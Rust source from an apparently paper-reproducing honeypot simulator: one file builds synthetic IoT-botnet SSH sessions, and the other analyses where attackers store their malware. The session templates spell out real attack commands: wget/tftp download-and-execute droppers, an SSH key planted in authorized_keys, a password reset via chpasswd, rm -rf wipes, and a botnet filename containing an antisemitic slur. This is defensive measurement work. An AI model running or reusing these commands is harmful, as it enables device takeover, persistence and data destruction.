                        "cd /tmp || cd /var/run || cd /mnt || cd /root; tftp; wget {uri}; chmod 777 {file}; sh {file}; /bin/busybox {probe}"
                    )
                } else {
                    let file = format!(".{}", ctx.token(6));
                    format!(
                        "cd /tmp || cd /var/run || cd /mnt || cd /root; tftp; wget; chmod 777 {file}; sh {file}; /bin/busybox {probe}"
                    )
                };
                BotSessionContent::ssh(ctx.ladder_any(), vec![cmd], "SSH-2.0-Go")
            }
            BboxUnlabelled => {
                let probe = ctx.alpha_token(5);
                let method = match ctx.rng.random_range(0..4) {
                    0 => TransferMethod::Wget,
                    1 => TransferMethod::Tftp,
                    2 => TransferMethod::Ftpget,
                    _ => TransferMethod::ScpAssumed,
                };
                let cmd = match method {
                    TransferMethod::Wget | TransferMethod::Curl => {
                        let uri = ctx.dropper(MalwareFamily::Gafgyt);
                        let file = uri.rsplit('/').next().unwrap_or("g.sh").to_string();
                        format!("/bin/busybox wget {uri}; sh {file}; /bin/busybox {probe}")
                    }
                    TransferMethod::Tftp => {
                        let uri = ctx.dropper(MalwareFamily::Gafgyt);
                        let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
                        let file = uri.rsplit('/').next().unwrap_or("g.sh").to_string();
                        format!(
                            "/bin/busybox tftp -g -r {file} {host}; sh {file}; /bin/busybox {probe}"
                        )
                    }
                    TransferMethod::Ftpget => {
                        let uri = ctx.dropper(MalwareFamily::Gafgyt);
                        let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
                        let file = uri.rsplit('/').next().unwrap_or("g.sh").to_string();
                        format!(
                            "/bin/busybox ftpget {host} {file} {file}; sh {file}; /bin/busybox {probe}"
                        )
                    }
                    TransferMethod::ScpAssumed => {
                        let file = format!(".{}", ctx.token(5));
                        format!("/bin/busybox {probe}; sh {file}")
                    }
                };
                BotSessionContent::ssh(ctx.ladder_any(), vec![cmd], "SSH-2.0-Go")
            }
            BboxRandExec => {
                let probe = ctx.alpha_token(7);
                let file = format!("./{}", ctx.token(8));
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("/bin/busybox {probe}; {file}")],
                    "SSH-2.0-Go",
                )
            }
            BboxLoaderWget => {
                let uri = ctx.dropper(MalwareFamily::Mirai);
                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!(
                        "cd /tmp; wget http://{host}/loader.wget -O .l; sh .l"
                    )],
                    "SSH-2.0-Go",
                )
            }
            BboxEchoElf => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![
                    r#"cd /tmp; echo -ne "\x7f\x45\x4c\x46\x01\x01\x01" > .e; /bin/busybox cat .e; chmod +x .e; ./.e"#
                        .to_string(),
                ],
                "SSH-2.0-Go",
            ),
            GenLoader { curl, echo, ftp, wget, exec } => {
                let family = [
                    MalwareFamily::Mirai,
                    MalwareFamily::Gafgyt,
                    MalwareFamily::Dofloo,
                    MalwareFamily::CoinMiner,
                    MalwareFamily::XorDdos,
                    MalwareFamily::Malicious,
                ][ctx.rng.random_range(0..6)];
                let uri = ctx.dropper_timed(family);
                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
                let file = uri.rsplit('/').next().unwrap_or("x.sh").to_string();
                let mut parts: Vec<String> = vec!["cd /tmp".to_string()];
                if wget {
                    parts.push(format!("wget {uri}"));
                }
                if curl {
                    if wget {
                        parts.push(format!("curl -O {uri}"));
                    } else {
                        parts.push(format!("curl -o {file} {uri}"));
                    }
                }
                if ftp {
                    parts.push(format!("ftpget {host} {file} {file}"));
                }
                if echo {
                    parts.push(format!("echo -n '#loader' >> {file}.hdr"));
                }
                if exec {
                    parts.push(format!("chmod +x {file}; sh {file}"));
                    parts.push(format!("rm -rf {file}"));
                }
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![parts.join("; ")],
                    "SSH-2.0-Go",
                )
            }
            RapperBot => {
                let keyid = ctx.token(24);
                let uri = ctx.dropper(MalwareFamily::Mirai);
                let file = uri.rsplit('/').next().unwrap_or("r.sh").to_string();
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![
                        format!(
                            r#"cd ~/.ssh || mkdir ~/.ssh; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABA{keyid} helloworld" > ~/.ssh/authorized_keys"#
                        ),
                        format!("wget {uri}; sh {file}"),
                    ],
                    "SSH-2.0-HELLOWORLD",
                )
            }
            UpdateAttack => {
                let uri = ctx.dropper_timed(MalwareFamily::Malicious);
                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!(
                        "cd /tmp; wget http://{host}/update.sh; chmod +x update.sh; sh update.sh"
                    )],
                    "SSH-2.0-Go",
                )
            }
            SoraAttack | OhshitAttack | OnionsAttack | HeisenAttack | ZeusAttack
            | FrSlurAttack => {
                let (token, family) = match self {
                    SoraAttack => ("sora", MalwareFamily::Mirai),
                    OhshitAttack => ("ohshit", MalwareFamily::Gafgyt),
                    OnionsAttack => ("onions1337", MalwareFamily::Gafgyt),
                    HeisenAttack => ("Heisenberg", MalwareFamily::Mirai),
                    ZeusAttack => ("Zeus", MalwareFamily::Malicious),
                    FrSlurAttack => ("fuckjewishpeople", MalwareFamily::Gafgyt),
                    _ => unreachable!(),
                };
                let uri = ctx.dropper(family);
                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!(
                        "cd /tmp; wget http://{host}/{token}.sh; chmod 777 {token}.sh; sh {token}.sh"
                    )],
                    "SSH-2.0-Go",
                )
            }
            Passwd123Daemon => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![
                    "echo daemon:Password123|chpasswd; sh .daemon".to_string(),
                ],
                "SSH-2.0-Go",
            ),
            RmObfPattern1 => BotSessionContent::ssh(
                ctx.ladder_any(),
                vec![
                    "cd /tmp ; rm -rf /tmp/* || cd /var/run || cd /mnt || cd /root ; rm -rf /root/* || cd /"
                        .to_string(),
                ],
                "SSH-2.0-Go",
            ),
            WgetDget => {
                let uri = ctx.dropper(MalwareFamily::Dofloo);
                let file = uri.rsplit('/').next().unwrap_or("d.sh").to_string();
                BotSessionContent::ssh(
                    ctx.ladder_any(),
                    vec![format!("wget -4 {uri} || dget -4 {uri}; sh {file}")],
                    "SSH-2.0-Go",
                )
            }
        }
    }
}

fn hex_token(ctx: &mut BotCtx<'_>, n: usize) -> String {
    const CS: &[u8] = b"0123456789abcdef";
    (0..n)
        .map(|_| CS[ctx.rng.random_range(0..CS.len())] as char)
        .collect()
}

/// Category name for a `gen_*` tool combination, matching Table 1 labels.
pub fn gen_loader_name(curl: bool, echo: bool, ftp: bool, wget: bool) -> &'static str {
    match (curl, echo, ftp, wget) {
        (true, true, true, true) => "gen_curl_echo_ftp_wget",
        (true, true, true, false) => "gen_curl_echo_ftp",
        (true, true, false, true) => "gen_curl_echo_wget",
        (true, true, false, false) => "gen_curl_echo",
        (true, false, true, true) => "gen_curl_ftp_wget",
        (true, false, true, false) => "gen_curl_ftp",
        (true, false, false, true) => "gen_curl_wget",
        (true, false, false, false) => "gen_curl",
        (false, true, true, true) => "gen_echo_ftp_wget",
        (false, true, true, false) => "gen_echo_ftp",
        (false, true, false, true) => "gen_echo_wget",
        (false, true, false, false) => "gen_echo",
        (false, false, true, true) => "gen_ftp_wget",
        (false, false, true, false) => "gen_ftp",
        (false, false, false, true) => "gen_wget",
        (false, false, false, false) => "gen_none",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::storage::{StorageConfig, StorageEcosystem};
    use hutil::rng::SeedTree;
    use rand::SeedableRng;

    fn eco() -> StorageEcosystem {
        let cfg = StorageConfig::paper_defaults(Date::new(2021, 12, 1), Date::new(2024, 8, 31));
        StorageEcosystem::new(&cfg, SeedTree::new(3), |i, _| {
            (
                65_500 + (i % 40) as u32,
                Ipv4Addr(0x3000_0000 + i as u32 * 11),
                None,
            )
        })
    }

    fn one(bot: Archetype, date: Date) -> BotSessionContent {
        let e = eco();
        let mut rng = StdRng::seed_from_u64(77);
        let mut ctx = BotCtx {
            rng: &mut rng,
            date,
            client_ip: Ipv4Addr::from_octets(10, 2, 3, 4),
            self_host: false,
            storage: &e,
        };
        bot.session(&mut ctx)
    }

    #[test]
    fn scanner_has_no_credentials() {
        let s = one(Archetype::Scanner, Date::new(2022, 1, 1));
        assert!(s.logins.is_empty() && s.commands.is_empty());
    }

    #[test]
    fn scout_never_succeeds() {
        let policy = honeypot::AuthPolicy::default();
        for seed in 0..30 {
            let e = eco();
            let mut rng = StdRng::seed_from_u64(seed);
            let mut ctx = BotCtx {
                rng: &mut rng,
                date: Date::new(2022, 6, 1),
                client_ip: Ipv4Addr(9),
                self_host: false,
                storage: &e,
            };
            let s = Archetype::GenericScout.session(&mut ctx);
            assert!(!s.logins.is_empty());
            for (u, p) in &s.logins {
                assert!(!policy.accept(u, p), "scout credential {u}:{p} must fail");
            }
        }
    }

    #[test]
    fn ladder_sessions_end_in_success() {
        let policy = honeypot::AuthPolicy::default();
        let s = one(Archetype::EchoOk, Date::new(2022, 1, 1));
        let (u, p) = s.logins.last().unwrap();
        assert!(policy.accept(u, p));
    }

    #[test]
    fn echo_ok_matches_its_indicator() {
        let s = one(Archetype::EchoOk, Date::new(2022, 1, 1));
        assert!(s.commands[0].contains(r"\x6F\x6B"));
    }

    #[test]
    fn mdrfckr_variant_differs_from_initial() {
        let init = one(Archetype::MdrfckrInitial, Date::new(2022, 6, 1));
        let var = one(Archetype::MdrfckrVariant, Date::new(2023, 2, 1));
        let init_text = init.commands.join("\n");
        let var_text = var.commands.join("\n");
        assert!(init_text.contains("chpasswd"));
        assert!(!var_text.contains("chpasswd"));
        assert!(var_text.contains("hosts.deny"));
        assert!(var_text.contains("auth.sh"));
        assert!(init_text.contains("mdrfckr") && var_text.contains("mdrfckr"));
    }

    #[test]
    fn mdrfckr_b64_decodes_to_known_scripts() {
        let s = one(Archetype::MdrfckrB64, Date::new(2022, 10, 12));
        let cmd = s.commands.iter().find(|c| c.contains("base64 -d")).unwrap();
        let b64 = cmd
            .strip_prefix("echo ")
            .unwrap()
            .split('|')
            .next()
            .unwrap()
            .trim();
        let decoded = String::from_utf8(hutil::base64::decode(b64).unwrap()).unwrap();
        let known = mdrfckr_b64_scripts();
        assert!(known.contains(&decoded), "decoded: {decoded}");
    }

    #[test]
    fn cleanup_script_names_all_c2_ips() {
        let scripts = mdrfckr_b64_scripts();
        let cleanup = &scripts[2];
        for ip in mdrfckr_c2_ips() {
            assert!(cleanup.contains(&ip.to_string()));
        }
    }

    #[test]
    fn curl_maxred_volume_and_shape() {
        let s = one(Archetype::CurlMaxred, Date::new(2024, 2, 1));
        assert!(s.commands.len() >= 90 && s.commands.len() <= 110);
        assert!(s.commands.iter().all(|c| c.contains("--max-redirs")));
        assert!(s.commands.iter().any(|c| c.contains("-X POST")));
    }

    #[test]
    fn cred_3245_is_login_only() {
        let s = one(Archetype::Cred3245, Date::new(2023, 1, 1));
        assert_eq!(
            s.logins,
            vec![("root".to_string(), "3245gs5662d34".to_string())]
        );
        assert!(s.commands.is_empty());
    }

    #[test]
    fn bbox5_shifts_to_missing_files_in_2023() {
        let mut exists_2022 = 0;
        let mut exists_2023 = 0;
        let e = eco();
        for seed in 0..100 {
            let mut rng = StdRng::seed_from_u64(seed);
            let mut ctx = BotCtx {
                rng: &mut rng,
                date: Date::new(2022, 5, 1),
                client_ip: Ipv4Addr(7),
                self_host: false,
                storage: &e,
            };
            let s = Archetype::Bbox5Char.session(&mut ctx);
            if s.commands[0].contains("wget http") {
                exists_2022 += 1;
            }
            let mut rng = StdRng::seed_from_u64(seed);
            let mut ctx = BotCtx {
                rng: &mut rng,
                date: Date::new(2023, 5, 1),
                client_ip: Ipv4Addr(7),
                self_host: false,
                storage: &e,
            };
            let s = Archetype::Bbox5Char.session(&mut ctx);
            if s.commands[0].contains("wget http") {
                exists_2023 += 1;
            }
        }
        assert!(
            exists_2022 > 60,
            "2022 should mostly download: {exists_2022}"
        );
        assert!(exists_2023 < 15, "2023 should mostly assume: {exists_2023}");
    }

    #[test]
    fn gen_loader_names_cover_combos() {
        assert_eq!(gen_loader_name(true, false, false, true), "gen_curl_wget");
        assert_eq!(gen_loader_name(false, false, false, true), "gen_wget");
        assert_eq!(
            gen_loader_name(true, true, true, true),
            "gen_curl_echo_ftp_wget"
        );
    }

    #[test]
    fn gen_loader_commands_contain_their_tools() {
        let s = one(
            Archetype::GenLoader {
                curl: true,
                echo: true,
                ftp: true,
                wget: true,
                exec: true,
            },
            Date::new(2022, 4, 1),
        );
        let text = &s.commands[0];
        for t in ["curl", "echo", "ftp", "wget"] {
            assert!(text.contains(t), "missing {t} in {text}");
        }
    }

    #[test]
    fn tvbox_bots_use_default_credentials() {
        let d = one(Archetype::TvBoxDreambox, Date::new(2023, 8, 1));
        assert_eq!(d.logins[0].1, "dreambox");
        assert!(d.commands[0].contains("wget"));
        let v = one(Archetype::TvBoxVertex, Date::new(2023, 8, 1));
        assert_eq!(v.logins[0].1, "vertex25ektks123");
    }

    #[test]
    fn phil_scanner_logs_in_and_leaves() {
        let mut phil = 0;
        let mut richard = 0;
        let e = eco();
        for seed in 0..100 {
            let mut rng = StdRng::seed_from_u64(seed);
            let mut ctx = BotCtx {
                rng: &mut rng,
                date: Date::new(2023, 1, 1),
                client_ip: Ipv4Addr(5),
                self_host: false,
                storage: &e,
            };
            let s = Archetype::PhilScanner.session(&mut ctx);
            assert!(s.commands.is_empty());
            match s.logins[0].0.as_str() {
                "phil" => phil += 1,
                "richard" => richard += 1,
                other => panic!("unexpected user {other}"),
            }
        }
        assert!(phil > richard, "phil should dominate: {phil} vs {richard}");
        assert!(richard > 10);
    }

    #[test]
    fn rapperbot_key_matches_indicator() {
        let s = one(Archetype::RapperBot, Date::new(2022, 8, 1));
        assert!(s.commands[0].contains("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABA"));
        assert!(!s.commands[0].contains("mdrfckr"));
    }

    #[test]
    fn sessions_are_deterministic_per_seed() {
        let a = one(Archetype::CurlMaxred, Date::new(2024, 3, 1));
        let b = one(Archetype::CurlMaxred, Date::new(2024, 3, 1));
        assert_eq!(a.commands, b.commands);
    }
}
