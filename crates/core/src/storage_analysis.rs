//! Malware storage-location analysis (paper §7, Figs. 7/8/9/17).

use asdb::{AsRegistry, AsType};
use honeypot::SessionRecord;
use hutil::{Date, Month};
use netsim::Ipv4Addr;
use std::collections::{BTreeMap, HashMap, HashSet};

/// One observed download: a session referenced a storage host.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DownloadEvent {
    /// Session id.
    pub session_id: u64,
    /// Calendar day of the session.
    pub date: Date,
    /// Attacking client.
    pub client_ip: Ipv4Addr,
    /// Host named in the download URI.
    pub storage_ip: Ipv4Addr,
}

/// Extracts the IPv4 host from a URI like `http://203.0.113.9/x.sh`.
pub fn uri_host(uri: &str) -> Option<Ipv4Addr> {
    let rest = uri.split("://").nth(1)?;
    let host = rest.split('/').next()?;
    let host = host.split(':').next()?;
    Ipv4Addr::parse(host)
}

/// Whether a session actually issued *download* commands (a URI plus a
/// file-writing or failed-download event). This excludes the curl proxy
/// abuse of Appendix C, whose thousands of curl targets are request
/// destinations, not malware storage (paper §7 analyses "IP addresses
/// involved in download commands").
fn is_download_session(rec: &SessionRecord) -> bool {
    !rec.uris.is_empty()
        && rec.file_events.iter().any(|e| {
            matches!(
                e.op,
                honeypot::FileOp::Created { .. }
                    | honeypot::FileOp::Modified { .. }
                    | honeypot::FileOp::DownloadFailed
            )
        })
}

/// Streaming accumulator behind [`download_events`].
#[derive(Debug, Default)]
pub struct DownloadAccumulator {
    events: Vec<DownloadEvent>,
}

impl DownloadAccumulator {
    /// An empty accumulator.
    pub fn new() -> Self {
        Self::default()
    }

    /// Folds one session in: one event per distinct download host it
    /// referenced (non-download sessions contribute nothing).
    pub fn push(&mut self, rec: &SessionRecord) {
        if !is_download_session(rec) {
            return;
        }
        let mut seen: HashSet<Ipv4Addr> = HashSet::new();
        for uri in &rec.uris {
            if let Some(host) = uri_host(uri) {
                if seen.insert(host) {
                    self.events.push(DownloadEvent {
                        session_id: rec.session_id,
                        date: rec.start.date(),
                        client_ip: rec.client_ip,
                        storage_ip: host,
                    });
                }
            }
        }
    }

    /// Appends another accumulator's events. Associative but **not**
    /// commutative — event order is push order, and downstream consumers
    /// (e.g. Fig. 9 rendering) see that order. Parallel scans therefore
    /// merge partial accumulators in ascending input-partition order,
    /// which reproduces the serial event sequence exactly.
    pub fn merge(&mut self, other: Self) {
        self.events.extend(other.events);
    }

    /// The accumulated events.
    pub fn finish(self) -> Vec<DownloadEvent> {
        self.events
    }
}

/// All download events in the dataset: one per distinct `(session, host)`.
/// Single pass over any session stream; the result is small (one event
/// per download host referenced), never the sessions themselves.
pub fn download_events<I>(sessions: I) -> Vec<DownloadEvent>
where
    I: IntoIterator,
    I::Item: std::borrow::Borrow<SessionRecord>,
{
    let mut acc = DownloadAccumulator::new();
    for rec in sessions {
        acc.push(std::borrow::Borrow::borrow(&rec));
    }
    acc.finish()
}

/// Download events restricted to sessions where a file was actually
/// captured (Created/Modified) — i.e. the dropper *served*. This is the
/// activity signal behind Fig. 9: a bot referencing a long-dead dropper
/// does not make that host "active".
pub fn successful_download_events<I>(sessions: I) -> Vec<DownloadEvent>
where
    I: IntoIterator,
    I::Item: std::borrow::Borrow<SessionRecord>,
{
    let mut out = Vec::new();
    for rec in sessions {
        let rec = std::borrow::Borrow::borrow(&rec);
        let mut seen: HashSet<Ipv4Addr> = HashSet::new();
        for e in &rec.file_events {
            if !matches!(
                e.op,
                honeypot::FileOp::Created { .. } | honeypot::FileOp::Modified { .. }
            ) {
                continue;
            }
            let Some(host) = e.source_uri.as_deref().and_then(uri_host) else {
                continue;
            };
            if seen.insert(host) {
                out.push(DownloadEvent {
                    session_id: rec.session_id,
                    date: rec.start.date(),
                    client_ip: rec.client_ip,
                    storage_ip: host,
                });
            }
        }
    }
    out
}

/// §7 headline statistics.
#[derive(Debug, Clone, PartialEq)]
pub struct StorageStats {
    /// Sessions with at least one download URI.
    pub download_sessions: u64,
    /// Fraction of download events where storage IP ≠ client IP
    /// (paper: 80 %).
    pub different_ip_frac: f64,
    /// Unique client IPs issuing download commands (paper: >32k).
    pub unique_download_clients: u64,
    /// Unique storage IPs (paper: ~3k).
    pub unique_storage_ips: u64,
    /// Fraction of storage IPs present in abuse feeds (paper: 56 %).
    pub storage_ip_reported_frac: f64,
}

/// Computes the headline statistics.
pub fn storage_stats(events: &[DownloadEvent], abuse: &abusedb::AbuseDb) -> StorageStats {
    let mut sessions: HashSet<u64> = HashSet::new();
    let mut clients: HashSet<Ipv4Addr> = HashSet::new();
    let mut storage: HashSet<Ipv4Addr> = HashSet::new();
    let mut diff = 0u64;
    for e in events {
        sessions.insert(e.session_id);
        clients.insert(e.client_ip);
        storage.insert(e.storage_ip);
        if e.storage_ip != e.client_ip {
            diff += 1;
        }
    }
    let reported = storage.iter().filter(|ip| abuse.ip_reported(**ip)).count();
    StorageStats {
        download_sessions: sessions.len() as u64,
        different_ip_frac: if events.is_empty() {
            0.0
        } else {
            diff as f64 / events.len() as f64
        },
        unique_download_clients: clients.len() as u64,
        unique_storage_ips: storage.len() as u64,
        storage_ip_reported_frac: if storage.is_empty() {
            0.0
        } else {
            reported as f64 / storage.len() as f64
        },
    }
}

/// One Fig. 7 Sankey flow.
#[derive(Debug, Clone, PartialEq)]
pub struct SankeyFlow {
    /// Client-side AS type.
    pub client_type: AsType,
    /// Storage-side AS type.
    pub storage_type: AsType,
    /// Download events on this flow.
    pub events: u64,
    /// Of which client IP == storage IP (the blue flows).
    pub same_ip: u64,
}

/// Fig. 7: client-AS-type × storage-AS-type flows. Events whose IP does
/// not resolve in the registry at the event date are dropped (mirroring
/// the paper's WHOIS-lookup joins).
pub fn sankey_flows(events: &[DownloadEvent], registry: &AsRegistry) -> Vec<SankeyFlow> {
    let mut agg: BTreeMap<(AsType, AsType), (u64, u64)> = BTreeMap::new();
    for e in events {
        let (Some(c), Some(s)) = (
            registry.lookup(e.client_ip, e.date),
            registry.lookup(e.storage_ip, e.date),
        ) else {
            continue;
        };
        let entry = agg.entry((c.as_type, s.as_type)).or_insert((0, 0));
        entry.0 += 1;
        if e.client_ip == e.storage_ip {
            entry.1 += 1;
        }
    }
    agg.into_iter()
        .map(
            |((client_type, storage_type), (events, same_ip))| SankeyFlow {
                client_type,
                storage_type,
                events,
                same_ip,
            },
        )
        .collect()
}

/// Fig. 8a buckets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AgeBucket {
    /// AS registered less than a year before the download.
    Under1y,
    /// One to five years.
    Under5y,
    /// Five years or older.
    Over5y,
}

/// Fig. 8a: monthly download counts by storage-AS age at download time.
pub fn as_age_by_month(
    events: &[DownloadEvent],
    registry: &AsRegistry,
) -> BTreeMap<Month, [u64; 3]> {
    let mut out: BTreeMap<Month, [u64; 3]> = BTreeMap::new();
    for e in events {
        let Some(rec) = registry.lookup(e.storage_ip, e.date) else {
            continue;
        };
        let age = rec.age_years_at(e.date);
        let slot = if age < 1 {
            0
        } else if age < 5 {
            1
        } else {
            2
        };
        out.entry(e.date.month_of()).or_default()[slot] += 1;
    }
    out
}

/// Fig. 8b: monthly download counts by storage-AS size (deaggregated /24s):
/// `[exactly one, 2..49, ≥50]`.
pub fn as_size_by_month(
    events: &[DownloadEvent],
    registry: &AsRegistry,
) -> BTreeMap<Month, [u64; 3]> {
    let mut out: BTreeMap<Month, [u64; 3]> = BTreeMap::new();
    for e in events {
        let Some(rec) = registry.lookup(e.storage_ip, e.date) else {
            continue;
        };
        let size = rec.size_24s_at(e.date);
        let slot = if size <= 1 {
            0
        } else if size < 50 {
            1
        } else {
            2
        };
        out.entry(e.date.month_of()).or_default()[slot] += 1;
    }
    out
}

/// Fig. 17: monthly download counts by storage-AS type.
pub fn as_type_by_month(
    events: &[DownloadEvent],
    registry: &AsRegistry,
) -> BTreeMap<Month, [u64; 4]> {
    let mut out: BTreeMap<Month, [u64; 4]> = BTreeMap::new();
    for e in events {
        let Some(rec) = registry.lookup(e.storage_ip, e.date) else {
            continue;
        };
        let slot = AsType::ALL
            .iter()
            .position(|t| *t == rec.as_type)
            .expect("every type is in ALL");
        out.entry(e.date.month_of()).or_default()[slot] += 1;
    }
    out
}

/// The §7 storage-AS census (paper: 388 ASes — 358 hosting, 30 ISP,
/// 36 down; >35 % younger than 1 year, >70 % younger than 5).
#[derive(Debug, Clone, PartialEq)]
pub struct StorageAsCensus {
    /// Distinct ASes hosting malware.
    pub total: usize,
    /// Hosting-type ASes.
    pub hosting: usize,
    /// ISP/NSP-type ASes.
    pub isp: usize,
    /// ASes announcing nothing at the window end.
    pub down: usize,
    /// Fraction younger than 1 year at first observed use.
    pub younger_1y_frac: f64,
    /// Fraction younger than 5 years at first observed use.
    pub younger_5y_frac: f64,
}

/// Computes the census over all download events.
pub fn storage_as_census(
    events: &[DownloadEvent],
    registry: &AsRegistry,
    window_end: Date,
) -> StorageAsCensus {
    // First use date per AS.
    let mut first_use: HashMap<u32, Date> = HashMap::new();
    let mut types: HashMap<u32, AsType> = HashMap::new();
    for e in events {
        let Some(rec) = registry.lookup(e.storage_ip, e.date) else {
            continue;
        };
        let d = first_use.entry(rec.asn).or_insert(e.date);
        if e.date < *d {
            *d = e.date;
        }
        types.insert(rec.asn, rec.as_type);
    }
    let total = first_use.len();
    let hosting = types.values().filter(|t| **t == AsType::Hosting).count();
    let isp = types.values().filter(|t| **t == AsType::IspNsp).count();
    let mut down = 0;
    let mut young1 = 0;
    let mut young5 = 0;
    for (asn, first) in &first_use {
        let rec = registry.by_asn(*asn).expect("asn came from registry");
        if rec.is_down_on(window_end) {
            down += 1;
        }
        let age = rec.age_years_at(*first);
        if age < 1 {
            young1 += 1;
        }
        if age < 5 {
            young5 += 1;
        }
    }
    StorageAsCensus {
        total,
        hosting,
        isp,
        down,
        younger_1y_frac: if total > 0 {
            young1 as f64 / total as f64
        } else {
            0.0
        },
        younger_5y_frac: if total > 0 {
            young5 as f64 / total as f64
        } else {
            0.0
        },
    }
}

/// Fig. 9 activity-day buckets (day-granular; the paper's sub-day buckets
/// collapse into `≤1d` because our honeynet reports daily activity).
pub const FIG9_BUCKETS: &[(&str, i64)] = &[
    ("<=1d", 1),
    ("<=4d", 4),
    ("<=1w", 7),
    ("<=2w", 14),
    ("<=4w", 28),
    ("<=8w", 56),
    ("<=16w", 112),
    ("<=0.5y", 183),
    ("<=1y", 365),
    (">1y", i64::MAX),
];

/// Fig. 9: for a recall interval of `recall_days`, computes per-week bucket
/// counts of storage-IP activity days.
///
/// For each week `t` in the study, consider every storage IP observed in
/// `(t - recall, t]`; count its distinct active days in that window and
/// bucket it. Returns `(week start, bucket counts)` rows.
pub fn reuse_buckets_by_week(
    events: &[DownloadEvent],
    recall_days: i64,
    window_start: Date,
    window_end: Date,
) -> Vec<(Date, Vec<u64>)> {
    // Per-IP sorted activity days.
    let mut per_ip: HashMap<Ipv4Addr, Vec<Date>> = HashMap::new();
    for e in events {
        per_ip.entry(e.storage_ip).or_default().push(e.date);
    }
    for days in per_ip.values_mut() {
        days.sort_unstable();
        days.dedup();
    }
    let mut out = Vec::new();
    let mut week = window_start;
    while week <= window_end {
        let lo = week.plus_days(-(recall_days - 1));
        let hi = week.plus_days(6).min(window_end);
        let mut counts = vec![0u64; FIG9_BUCKETS.len()];
        for days in per_ip.values() {
            let active = days.iter().filter(|d| **d >= lo && **d <= hi).count() as i64;
            if active == 0 {
                continue;
            }
            let slot = FIG9_BUCKETS
                .iter()
                .position(|(_, cap)| active <= *cap)
                .expect("last bucket is unbounded");
            counts[slot] += 1;
        }
        out.push((week, counts));
        week = week.plus_days(7);
    }
    out
}

/// The ≥6-month reappearance share (paper: ~25 % on average): fraction of
/// storage IPs whose activity spans a gap of at least 180 days.
pub fn long_reappearance_frac(events: &[DownloadEvent]) -> f64 {
    let mut per_ip: HashMap<Ipv4Addr, Vec<Date>> = HashMap::new();
    for e in events {
        per_ip.entry(e.storage_ip).or_default().push(e.date);
    }
    if per_ip.is_empty() {
        return 0.0;
    }
    let mut reappearing = 0usize;
    for days in per_ip.values_mut() {
        days.sort_unstable();
        days.dedup();
        if days.windows(2).any(|w| w[1].days_since(w[0]) >= 180) {
            reappearing += 1;
        }
    }
    reappearing as f64 / per_ip.len() as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use asdb::{Announcement, AsRecord};
    use honeypot::{Protocol, SessionEndReason};
    use netsim::Prefix;

    fn d(y: i32, m: u8, day: u8) -> Date {
        Date::new(y, m, day)
    }

    fn rec_with_uri(id: u64, date: Date, client: Ipv4Addr, uris: Vec<&str>) -> SessionRecord {
        // Each URI is a successful download: a Created event carries it.
        let file_events = uris
            .iter()
            .enumerate()
            .map(|(i, uri)| honeypot::FileEvent {
                path: format!("/tmp/f{i}"),
                op: honeypot::FileOp::Created {
                    sha256: "ab".repeat(32),
                },
                source_uri: Some((*uri).to_string()),
            })
            .collect();
        SessionRecord {
            session_id: id,
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: client,
            client_port: 1,
            protocol: Protocol::Ssh,
            start: date.at(10, 0, 0),
            end: date.at(10, 1, 0),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: vec![],
            commands: vec![],
            uris: uris.into_iter().map(str::to_string).collect(),
            file_events,
        }
    }

    fn registry() -> AsRegistry {
        let mk = |asn: u32, ty: AsType, reg: Date, base: [u8; 4], len: u8| AsRecord {
            asn,
            org: format!("AS{asn}"),
            as_type: ty,
            registered: reg,
            announcements: vec![Announcement {
                prefix: Prefix::new(
                    Ipv4Addr::from_octets(base[0], base[1], base[2], base[3]),
                    len,
                ),
                from: reg,
                until: None,
            }],
            down_since: None,
        };
        AsRegistry::new(vec![
            mk(100, AsType::IspNsp, d(2010, 1, 1), [10, 0, 0, 0], 16),
            mk(200, AsType::Hosting, d(2022, 1, 1), [20, 0, 0, 0], 24),
            mk(300, AsType::Hosting, d(2015, 1, 1), [30, 0, 0, 0], 20),
        ])
    }

    fn ip(a: u8, b: u8, c: u8, dd: u8) -> Ipv4Addr {
        Ipv4Addr::from_octets(a, b, c, dd)
    }

    #[test]
    fn uri_host_parsing() {
        assert_eq!(
            uri_host("http://203.0.113.9/x.sh"),
            Some(ip(203, 0, 113, 9))
        );
        assert_eq!(uri_host("tftp://10.0.0.1/f"), Some(ip(10, 0, 0, 1)));
        assert_eq!(
            uri_host("http://203.0.113.9:8080/x"),
            Some(ip(203, 0, 113, 9))
        );
        assert_eq!(uri_host("http://evil.example/x"), None);
        assert_eq!(uri_host("no-scheme"), None);
    }

    #[test]
    fn download_events_dedupe_hosts_per_session() {
        let sessions = vec![rec_with_uri(
            1,
            d(2022, 6, 1),
            ip(10, 0, 0, 5),
            vec![
                "http://20.0.0.9/a.sh",
                "http://20.0.0.9/b.sh",
                "http://30.0.0.1/c.sh",
            ],
        )];
        let ev = download_events(&sessions);
        assert_eq!(ev.len(), 2);
    }

    #[test]
    fn stats_same_vs_different_ip() {
        let sessions = vec![
            rec_with_uri(
                1,
                d(2022, 6, 1),
                ip(10, 0, 0, 5),
                vec!["http://20.0.0.9/a.sh"],
            ),
            rec_with_uri(
                2,
                d(2022, 6, 2),
                ip(10, 0, 0, 6),
                vec!["http://10.0.0.6/a.sh"],
            ),
        ];
        let ev = download_events(&sessions);
        let stats = storage_stats(&ev, &abusedb::AbuseDb::default());
